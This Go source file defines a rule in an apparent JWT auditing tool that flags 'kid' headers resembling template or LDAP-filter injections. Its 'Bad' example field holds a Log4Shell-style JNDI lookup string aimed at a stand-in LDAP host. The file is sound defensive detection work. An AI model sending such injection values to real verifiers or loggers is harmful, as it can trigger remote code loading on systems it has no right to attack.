package token

import (
	"github.com/jwtctl/jwtctl/audit"
	"github.com/jwtctl/jwtctl/audit/internal/keyid"
)

var kidTemplate = audit.Rule{
	ID:       "kid-template",
	Title:    "kid looks like a template or LDAP filter",
	Severity: audit.Medium,
	Why: "A verifier that expands kid in a template, a log message or an LDAP search evaluates what an attacker wrote. " +
		"In an honest token it is a placeholder that nobody filled in.",
	Fix:    "Look kid up in the set of trusted keys; escape it wherever else it goes.",
	Refs:   []string{"RFC 8725 §3.10", "CWE-90", "CWE-1336", "CVE-2021-44228"},
	Bad:    `{"alg":"RS256","kid":"${jndi:ldap://x/a}"}`,
	Good:   `{"alg":"RS256","kid":"2026-01"}`,
	Needs:  audit.NeedsOddKeyID,
	Origin: true,
	CheckToken: func(p *audit.TokenPass) {
		if kid := oddKeyID(p); kid != nil && keyid.Template(kid) {
			p.Reportf("header/kid", "kid is %.80q: template engines and LDAP filters evaluate it", kid)
		}
	},
}
